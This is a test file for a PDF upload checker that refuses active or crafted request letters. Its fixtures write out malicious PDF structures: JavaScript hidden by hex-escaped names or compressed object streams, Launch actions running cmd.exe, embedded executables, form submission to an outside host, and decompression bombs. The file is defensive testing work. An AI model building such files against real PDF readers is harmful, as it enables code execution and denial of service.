"""Request letters are parsed as PDFs: active content is found however it is written, and a crafted
file is refused without being waited on."""
from __future__ import annotations

import io
import zlib
from pathlib import Path

import pytest

from agents.protocol.artifacts import ArtifactStore
from panel.services.documents.letters import render_hosting_report, render_response_letter
from panel.services.requests import attachments as documents
from tests.panel import factories, pdfs
from tests.panel.letter_samples import hosting_report, response_letter

ACTIVE = "konten aktif"
UNREADABLE = "tidak dapat dibaca"
TOO_COMPLEX = "terlalu rumit"
CATALOG = b"<</Type/Catalog/Pages 2 0 R%s>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"


def _stored(store_root: Path) -> list[Path]:
    return [p for p in store_root.rglob("*") if p.is_file()] if store_root.exists() else []


def _refusal(data: bytes, tmp_path: Path) -> str:
    """Return why `data` is refused, after checking that nothing of it was stored."""
    store = ArtifactStore(tmp_path / "lampiran")
    with pytest.raises(documents.DocumentRefused) as refused:
        documents.store_pdf(store, io.BytesIO(data), 10 * 1024 * 1024)
    assert _stored(tmp_path / "lampiran") == []
    return str(refused.value)


# --- what a letter may be ---------------------------------------------------------------------------


@pytest.mark.parametrize("data", [
    factories.MINIMAL_PDF,
    pdfs.letter(packed=frozenset({1, 2, 3})),  # a PDF 1.5 file with compressed object streams
    pdfs.letter(b"/OpenAction[3 0 R/FitH null]"),  # opening at page 1, as word processors write it
    pdfs.letter(b"/Outlines 4 0 R", b"<</Type/Outlines/Count 0>>"),
    pdfs.build({1: CATALOG % b"", 2: PAGES,
                3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Annots[4 0 R]>>",
                4: b"<</Type/Annot/Subtype/Link/Rect[0 0 10 10]/A<</S/URI/URI(https://contoh.go.id/)>>>>"}),
    render_hosting_report(hosting_report()),
    render_response_letter(response_letter()),
], ids=["minimal", "object-streams", "open-at-page", "outline", "web-link", "fpdf2-report", "fpdf2-response"])
def test_ordinary_letters_are_accepted_and_stored(data: bytes, tmp_path: Path) -> None:
    store = ArtifactStore(tmp_path / "lampiran")
    sha256, size = documents.store_pdf(store, io.BytesIO(data), 10 * 1024 * 1024)
    assert size == len(data) and store.path(sha256).read_bytes() == data


# --- active content, however it is written ----------------------------------------------------------


def test_javascript_with_hex_escaped_names_is_found(tmp_path: Path) -> None:
    data = pdfs.letter(b"/OpenAction<</S/J#61vaScript/J#53(app.launchURL('https://judi.example'))>>")
    assert b"JavaScript" not in data and b"/JS" not in data  # nothing for a byte search to find
    assert ACTIVE in _refusal(data, tmp_path)


def test_javascript_inside_a_compressed_object_stream_is_found(tmp_path: Path) -> None:
    data = pdfs.letter(b"/OpenAction 4 0 R", b"<</S/JavaScript/JS(app.alert(1))>>", packed=frozenset({1, 4}))
    assert b"JavaScript" not in data and b"/JS" not in data and b"OpenAction" not in data
    assert ACTIVE in _refusal(data, tmp_path)


@pytest.mark.parametrize("catalog_extra, objects", [
    (b"/Names<</JavaScript 4 0 R>>", [b"<</Names[(a) 5 0 R]>>", b"<</S/JavaScript/JS(app.alert(1))>>"]),
    (b"/OpenAction<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>", []),
    (b"/OpenAction<</S/GoToR/F(//berbagi/surat.pdf)/D[0/Fit]>>", []),
    (b"/AcroForm<</Fields[]/XFA 4 0 R>>", [b"<</Length 0>>stream\n\nendstream"]),
    (b"/Names<</EmbeddedFiles<</Names[(a.exe) 4 0 R]>>>>",
     [b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>",
      b"<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream"]),
    (b"/AA<</WC<</S/SubmitForm/F<</FS/URL/F(https://luar.example/ambil)>>>>>>", []),
    (b"/OpenAction<</S/ImportData/F(data.fdf)>>", []),
    (b"/OpenAction<</S/URI/URI(javascript:alert(1))>>", []),
    (b"/OpenAction 4 0 R", [b"<</S 5 0 R/JS 6 0 R>>", b"/JavaScript", b"(app.alert(1))"]),
], ids=["names-tree", "launch", "goto-remote", "xfa", "embedded-file", "aa-submit", "import-data",
        "javascript-uri", "indirect"])
def test_active_content_in_the_catalog_is_refused(catalog_extra: bytes, objects: list[bytes],
                                                  tmp_path: Path) -> None:
    assert ACTIVE in _refusal(pdfs.letter(catalog_extra, *objects), tmp_path)


@pytest.mark.parametrize("annotation", [
    b"<</Type/Annot/Subtype/FileAttachment/Rect[0 0 10 10]/FS<</Type/Filespec/F(x.exe)>>>>",
    b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 10 10]>>",
    b"<</Type/Annot/Subtype/Widget/Rect[0 0 10 10]/AA<</Fo<</S/JavaScript/JS(1)>>>>>>",
    b"<</Type/Annot/Subtype/Link/Rect[0 0 10 10]/A<</S/Launch/F(x.exe)>>>>",
], ids=["file-attachment", "rich-media", "field-action", "link-launch"])
def test_active_annotations_on_a_page_are_refused(annotation: bytes, tmp_path: Path) -> None:
    data = pdfs.build({1: CATALOG % b"", 2: PAGES,
                       3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Annots[4 0 R]>>", 4: annotation},
                      packed=frozenset({3, 4}))
    assert ACTIVE in _refusal(data, tmp_path)


def test_an_object_nothing_refers_to_is_still_checked(tmp_path: Path) -> None:
    assert ACTIVE in _refusal(pdfs.letter(b"", b"<</S/JavaScript/JS(app.alert(1))>>"), tmp_path)


# --- files the parser cannot read, and files built to exhaust it -------------------------------------------


@pytest.mark.parametrize("data", [
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",  # no xref
    b"%PDF-1.7\n" + b"\x00" * 4096 + b"\n%%EOF\n",
    pdfs.letter().replace(b"xref", b"xrfe"),
], ids=["no-startxref", "zeros", "broken-xref"])
def test_a_pdf_the_parser_cannot_read_is_refused_clearly(data: bytes, tmp_path: Path) -> None:
    assert UNREADABLE in _refusal(data, tmp_path)


def test_a_headerless_or_truncated_file_is_refused_before_parsing(tmp_path: Path) -> None:
    assert "bukan PDF" in _refusal(b"MZ\x90\x00" + factories.MINIMAL_PDF, tmp_path)
    assert "tidak utuh" in _refusal(factories.MINIMAL_PDF[:-40] + b"\n" + b" " * 4096, tmp_path)


def test_a_compressed_object_stream_bomb_is_refused(tmp_path: Path) -> None:
    # 200 MB of blanks deflate to about 200 kB; the parser stops at its output limit.
    data = pdfs.build({1: CATALOG % b"", 2: PAGES, 3: pdfs.PAGE, 4: b"<<>>" + b" " * (200 * 1024 * 1024)},
                      packed=frozenset({1, 4}))
    assert len(data) < 1024 * 1024
    assert TOO_COMPLEX in _refusal(data, tmp_path)


def test_too_many_objects_are_refused(tmp_path: Path) -> None:
    objects = {1: CATALOG % b"", 2: PAGES, 3: pdfs.PAGE}
    objects.update({n: b"<<>>" for n in range(4, documents.MAX_OBJECTS + 10)})
    assert TOO_COMPLEX in _refusal(pdfs.build(objects), tmp_path)


def test_deeply_nested_arrays_are_refused(tmp_path: Path) -> None:
    assert TOO_COMPLEX in _refusal(pdfs.letter(b"/X 4 0 R", b"[" * 100_000 + b"]" * 100_000), tmp_path)


def test_too_many_pages_are_refused(tmp_path: Path) -> None:
    pages = documents.MAX_PAGES + 1
    kids = b" ".join(b"3 0 R" for _ in range(pages))
    tree = b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, pages)
    data = pdfs.build({1: CATALOG % b"", 2: tree, 3: pdfs.PAGE})
    assert TOO_COMPLEX in _refusal(data, tmp_path)


def test_a_password_protected_pdf_is_refused(tmp_path: Path) -> None:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(factories.MINIMAL_PDF)))
    writer.encrypt(user_password="rahasia", owner_password="pemilik", algorithm="AES-128")
    locked = io.BytesIO()
    writer.write(locked)
    assert "sandi" in _refusal(locked.getvalue(), tmp_path)

    # An owner password alone (a letter marked "no editing") opens without one, so it is checked.
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(factories.MINIMAL_PDF)))
    writer.encrypt(user_password="", owner_password="pemilik", algorithm="AES-128")
    opened = io.BytesIO()
    writer.write(opened)
    documents.check_pdf(opened.getvalue())


def test_the_cross_reference_stream_helper_really_compresses(tmp_path: Path) -> None:
    # The object-stream cases above prove something only if their objects are not readable as bytes.
    data = pdfs.letter(b"/Lang(id-ID)", packed=frozenset({1}))
    assert b"/Lang" not in data and b"/Lang" in zlib.decompress(
        data.split(b"stream\n", 1)[1].split(b"\nendstream", 1)[0])
